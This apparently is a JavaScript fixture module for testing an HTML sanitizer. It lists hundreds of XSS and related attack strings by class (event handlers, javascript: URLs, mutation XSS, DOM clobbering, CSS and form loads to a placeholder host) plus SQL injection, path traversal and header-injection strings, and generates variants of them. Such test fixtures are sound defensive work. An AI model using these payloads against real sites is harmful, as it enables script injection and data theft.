/**
 * Hostile texts by class of attack. `ran()` is what none of them may come to call; addresses under AWAY are what none
 * may come to ask for. Generators make as many as are wanted, the same ones every time.
 */
import fc from 'fast-check';

/** Stands for the place that must not be asked. A page under test puts the address of its own server here. */
export const AWAY = 'https://away.example/asked-for';

/** Class -> what it tries, and its own texts. */
export const CLASSES = {
  'script elements': {
    tries: 'to put a script into the page, whole, in pieces, or in another case',
    texts: [
      '<script>ran()</script>',
      `<SCRIPT SRC="${AWAY}/x.js"></SCRIPT>`,
      '<scr<script>ipt>ran()</scr</script>ipt>',
      '<script type="module">ran()</script>',
      '<script/x>ran()</script',
      '<<script>ran();//<</script>',
      '\u003Cscript\u003Eran()\u003C/script\u003E',
      '&lt;script&gt;ran()&lt;/script&gt;',
      '&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;',
      '<!--><script>ran()</script>-->',
    ],
  },
  'event handlers': {
    tries: 'to run script from an attribute of an allowed element',
    texts: [
      '<img src=x onerror=ran()>',
      '<img src=x:x onerror="ran()">',
      '<p onclick="ran()" onfocus=ran() tabindex=1 autofocus>p</p>',
      '<details open ontoggle="ran()"><summary>s</summary>t</details>',
      '<a href="https://a.example/" onmouseover="ran()" onpointerdown="ran()">a</a>',
      '<img/onerror="ran()"/src=x>',
      '<b onfocusin\n=\n"ran()" contenteditable>b</b>',
      '<p style="animation-name:x" onanimationstart="ran()">p</p>',
      '<p hidden="until-found" onbeforematch=ran()>p</p>',
      '<img src=x onerror\u00a0=ran() onerror=ran()>',
      '<time datetime=x onscrollsnapchange=ran() oncontentvisibilityautostatechange=ran()>t</time>',
      '<blockquote cite=x oncopy=ran() onwheel=ran() onselectstart=ran()>q</blockquote>',
    ],
  },
  addresses: {
    tries: 'to make a link or an image run script, under every way to write a scheme',
    texts: [
      '<a href="javascript:ran()">a</a>',
      '<a href="JaVaScRiPt:ran()">a</a>',
      '<a href="&#106;avascript&colon;ran()">a</a>',
      '<a href="java&#10;script:ran()">a</a>',
      '<a href="java&Tab;script:ran()">a</a>',
      '<a href="\u0001javascript:ran()">a</a>',
      '<a href="data:text/html,<script>ran()</script>">a</a>',
      '<a href="vbscript:ran()">a</a>',
      '<a href="blob:https://a.example/1">a</a>',
      '<a href="filesystem:https://a.example/x">a</a>',
      '<a href="view-source:javascript:ran()">a</a>',
      '<a href="https://user:secret@a.example/">a</a>',
      '<a href="//a.example/\\@b.example">a</a>',
      '<img src="javascript:ran()" alt="picture">',
      '<img src="data:image/svg+xml,<svg onload=ran()>" alt="picture">',
      '<a href="mailto:a@a.example?body=%0Ajavascript:ran()">a</a>',
      'javascript:ran()',
      'javascript://%0aran()',
      'data:text/html,<script>ran()</script>',
    ],
  },
  'SVG and MathML': {
    tries: 'to use the other languages that HTML parsers know',
    texts: [
      '<svg onload="ran()"><circle r="1"/></svg>',
      '<svg><script>ran()</script></svg>',
      '<svg><a xlink:href="javascript:ran()"><text>t</text></a></svg>',
      `<svg><image href="${AWAY}/s.png" onerror="ran()"/></svg>`,
      '<svg><foreignObject><p onclick="ran()">p</p></foreignObject></svg>',
      `<svg><use href="${AWAY}/u.svg#x"/></svg>`,
      '<svg><animate onbegin="ran()" attributeName="x" dur="1s"/></svg>',
      '<svg><a><animate attributeName="href" values="javascript:ran()"/><text>t</text></a></svg>',
      `<svg><style>@import "${AWAY}/s.css"</style></svg>`,
      '<math href="javascript:ran()"><mi>x</mi></math>',
      '<math><maction actiontype="statusline" xlink:href="javascript:ran()">x</maction></math>',
      '<math><annotation-xml encoding="text/html"><p onclick="ran()">p</p></annotation-xml></math>',
      `<svg><feImage href="${AWAY}/f.png"/><set attributeName="onmouseover" to="ran()"/></svg>`,
    ],
  },
  'mutation XSS': {
    tries: 'to be harmless when it is parsed once and harmful when it is parsed again',
    texts: [
      '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">',
      '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>',
      '<noscript><p title="</noscript><img src=x onerror=ran()>">',
      '<p id="</p><img src=x onerror=ran()>">p</p>',
      '<listing>&lt;img src=x onerror=ran()&gt;</listing>',
      '<xmp><img src=x onerror=ran()></xmp>',
      '<noembed><img title="</noembed><img src=x onerror=ran()>"></noembed>',
      '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=ran()>">',
      '<svg><desc><noscript>&lt;/noscript&gt;&lt;img src=x onerror=ran()&gt;</noscript></desc></svg>',
      '<math><annotation-xml encoding="text/html"><style></annotation-xml><img src=x onerror=ran()></style>',
      '<svg><![CDATA[<image xlink:href="]]><img src=x onerror=ran()>"></svg>',
      '<!--><img src=x onerror=ran()>--!><p>p',
      '<a href="https://a.example/`><img src=x onerror=ran()>">a</a>',
      '<table><td><svg><desc><td></desc></svg><title><img src=x onerror=ran()></title></table>',
      '<textarea></textarea><img src=x onerror=ran()></textarea>',
      '<title><a title="</title><img src=x onerror=ran()>"></title>',
      '<?xml-stylesheet ><img src=x onerror="ran()"> ?>',
    ],
  },
  'templates and components': {
    tries: 'to bring shadow trees, slots, or elements of ours with feeds of its own',
    texts: [
      '<template><img src=x onerror=ran()><script>ran()</script></template>',
      `<div><template shadowrootmode="open"><img src="${AWAY}/shadow.png" onerror=ran()></template></div>`,
      '<p><slot name="heading">s</slot></p>',
      `<ala-news-feed src="${AWAY}/feed.json"></ala-news-feed>`,
      `<ala-settings base-url="${AWAY}/"><ala-ce-calendar src="x"></ala-ce-calendar></ala-settings>`,
      '<p is="x-p">p</p>',
      `<a data-upgrade="*" data-ala="news-feed" href="${AWAY}/feed.json">a</a>`,
      '${ran()} {{constructor.constructor("ran()")()}} <%= ran() %> #{ran()}',
      '<!--?lit$123$--><p ?hidden=${ran()}>{{ran()}}</p>',
    ],
  },
  'frames and media': {
    tries: 'to load a document, a plug-in, a sound or a film',
    texts: [
      `<iframe src="${AWAY}/f.html" srcdoc="<script>parent.ran()</script>"></iframe>`,
      '<iframe src="javascript:parent.ran()"></iframe>',
      `<object data="${AWAY}/o.html"><p>fallback</p></object>`,
      `<embed src="${AWAY}/e.swf">`,
      `<frameset><frame src="${AWAY}/f.html"></frameset>`,
      `<video src="${AWAY}/v.mp4" poster="${AWAY}/p.png" autoplay onerror=ran()></video>`,
      `<audio autoplay><source src="${AWAY}/a.mp3" onerror="ran()"></audio>`,
      `<picture><source srcset="${AWAY}/s.png"><img src="${AWAY}/1.png" alt="one"></picture>`,
      `<portal src="${AWAY}/p"></portal><fencedframe src="${AWAY}/f"></fencedframe>`,
    ],
  },
  CSS: {
    tries: 'to load by a style, to cover the page, or to look like the page',
    texts: [
      `<style>p{background:url(${AWAY}/c.png)}</style><p>p</p>`,
      `<style>@import "${AWAY}/i.css"; @font-face{font-family:x;src:url(${AWAY}/f.woff)} *{font-family:x}</style>`,
      `<link rel="stylesheet" href="${AWAY}/l.css">`,
      `<p style="background:url(${AWAY}/c.png)" class="visually-hidden">p</p>`,
      `<table background="${AWAY}/b.png"><tr><td background="${AWAY}/b.png">c</td></tr></table>`,
      '<p style="position:fixed;inset:0;z-index:9999999">over everything</p>',
      `<p class="ala item button" part="base" style="--ala-background:url(${AWAY}/v.png)">p</p>`,
      `} * { background: url(${AWAY}/e.png) } {`,
      `"); background: url(${AWAY}/q.png); x: ("`,
      'expression(ran())',
    ],
  },
  'leaks of who reads': {
    tries: 'to tell a server that the text is read, or to lead the page away',
    texts: [
      `<link rel="prefetch" href="${AWAY}/p.html"><link rel="dns-prefetch" href="${AWAY}/d"><link rel="preload" as="image" href="${AWAY}/p.png">`,
      `<meta http-equiv="refresh" content="0;url=${AWAY}/m.html">`,
      '<meta http-equiv="Content-Security-Policy" content="img-src *">',
      `<base href="${AWAY}/"><a href="x">a</a>`,
      `<img src="${AWAY}/pixel.gif" width="1" height="1" alt="">`,
      `<img srcset="${AWAY}/1.png 1x, ${AWAY}/2.png 2x" alt="set">`,
      `<img src="${AWAY}/late.png" loading="eager" fetchpriority="high" referrerpolicy="unsafe-url" alt="late">`,
      `<image src="${AWAY}/i.png">`,
      `<input type="image" src="${AWAY}/i.png">`,
      `<a href="https://a.example/" ping="${AWAY}/ping" attributionsrc="${AWAY}/a" target="_top" download>a</a>`,
      `<body background="${AWAY}/b.png" onload="ran()"><p>p`,
      `<html manifest="${AWAY}/m"><p>p`,
      `<script type="speculationrules">{"prefetch":[{"urls":["${AWAY}/s"]}]}</script>`,
      `<p cite="${AWAY}/c" longdesc="${AWAY}/l" profile="${AWAY}/p">p</p>`,
    ],
  },
  forms: {
    tries: 'to send what a visitor types, or to move the focus',
    texts: [
      `<form action="${AWAY}/f"><input name="password" autofocus onfocus="ran()"></form>`,
      '<form action="javascript:ran()"><button>b</button></form>',
      '<button formaction="javascript:ran()" autofocus onfocus=ran()>b</button>',
      '<select autofocus onfocus="ran()"><option>o</option></select>',
      '<p contenteditable onfocus="ran()" accesskey="x" popover id="pop">p</p><button popovertarget="pop">b</button>',
      '<button command="--x" commandfor="a" interestfor="b">b</button>',
      '<isindex type=image src=x onerror=ran()>',
    ],
  },
  clobbering: {
    tries: 'to put elements in the place of what scripts read',
    texts: [
      '<form><input name="attributes"><input name="childNodes"></form><p>p</p>',
      '<form id="x"><input name="nodeName"></form>',
      '<img name="body" alt="">',
      '<a id="ran" name="location" href="https://a.example/">a</a>',
      '<form name="getAttribute"><button name="remove">b</button></form>',
      '<a id="trustedTypes"></a><a id="trustedTypes" name="createPolicy" href="https://a.example/">twice</a>',
      '<form><input name="localName"><input name="namespaceURI"><p>p</p></form>',
      '__proto__',
      'constructor',
      '{"__proto__":{"polluted":true}}',
      'toString',
    ],
  },
  'naughty strings': {
    tries: 'to break what reads and draws text',
    texts: [
      '\u0000',
      '\uFEFF\uFFFE',
      '\uD800',
      '\uDC00\uD800',
      '\u202Eevil\u202C',
      '\u2066\u2067\u2068x',
      'Z\u0351\u036B\u0343a\u030A\u0301lgo'.repeat(5),
      '👩‍👩‍👧‍👦🏳️‍🌈',
      '\u0646\u0635 \u05E2\u05D1\u05E8\u05D9\u05EA mixed',
      'null',
      'undefined',
      'NaN',
      '-1/0',
      '1e309',
      '0x0',
      '--',
      "'; DROP TABLE items;--",
      '%s%n%x %00 %0d%0aSet-Cookie: a=b',
      '../../../etc/passwd',
      '[object Object]',
      ']]>',
      '\\',
      '"\'`<>&',
      ' '.repeat(200),
      'a'.repeat(2_000),
      '\u200B\u00AD\u2060',
      'İıſK',
      '١٢٣',
      '9999-99-99T99:99:99Z',
      '2025-02-30',
      'ﷺ'.repeat(50),
      '\r\nBEGIN:VEVENT\r\n',
    ],
  },
  'slow parsing': {
    tries: 'to keep the parser of the browser busy',
    texts: [
      '<div>'.repeat(2_000),
      '<b>'.repeat(2_000),
      '<b><div></b>'.repeat(1_000),
      `<table>${'<b>x'.repeat(1_500)}`,
      '<table><tr><td>'.repeat(600),
      `<p ${Array.from({ length: 1_000 }, (_, index) => `a${index}`).join(' ')}>`,
      '&lt;'.repeat(2_000),
      '<a href="https://a.example/">'.repeat(300),
      '[['.repeat(2_000),
    ],
  },
};

const ALL = Object.entries(CLASSES).flatMap(([name, { texts }]) => texts.map((text) => ({ name, text })));

/** Ways to write a text otherwise that a parser may read as the same. */
const CHANGES = [
  (text) => text,
  (text) => text.replace(/<(\/?)([a-z]+)/gi, (_, slash, name) => `<${slash}${name.toUpperCase()}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('"', "'"),
  (text) => text.replace(/ (?=\w+=)/g, '\n/'),
  (text) => text.replaceAll('ran()', '&#114;an&lpar;)'),
  (text) => text.replace(/>$/, ''),
  (text) => `<p>before</p>${text}<p>after</p>`,
  (text) => `<div><ul><li>${text}`,
  (text) => `<table><tr>${text}</tr></table>`,
  (text) => `<a href="https://a.example/">${text}</a>`,
  (text) => `"><img src=x onerror=ran()>${text}`,
  (text) => `<!--${text}`,
  (text) => `<svg><style>${text}`,
  (text) => `<math><mtext>${text}</mtext></math>`,
  (text) => `<![CDATA[${text}]]>`,
  (text) => `${text}\u0000`,
];

const aText = fc
  .tuple(fc.constantFrom(...ALL), fc.constantFrom(...CHANGES), fc.constantFrom(...CHANGES))
  .map(([{ name, text }, one, two]) => ({ name, text: one(two(text)) }));

/** What is mixed of pieces, for which nobody has a name. */
const PIECES =
  '< > </ /> " \' = & ; ! -- <!-- --> <p <a <b <svg <math <style <img <table </p> </style> </svg> x src= onerror=ran() href=javascript:ran() &lt; &#x3c; \u0000 <![CDATA[ ]]>';
const aMixture = fc
  .array(fc.constantFrom(...PIECES.split(' ')), { minLength: 3, maxLength: 25 })
  .map((pieces) => ({ name: 'mixtures', text: pieces.join('') }));

/** So many items, the same every time: each own text once, then changed ones and mixtures. */
export function makePayloads(count) {
  const made = fc.sample(fc.oneof({ weight: 4, arbitrary: aText }, { weight: 1, arbitrary: aMixture }), {
    numRuns: Math.max(0, count - ALL.length),
    seed: 20250216,
  });
  return [...ALL, ...made].slice(0, Math.max(count, 0));
}

/** How many of the items are of each class. */
export function countClasses(payloads) {
  const counts = {};
  for (const { name } of payloads) counts[name] = (counts[name] ?? 0) + 1;
  return counts;
}
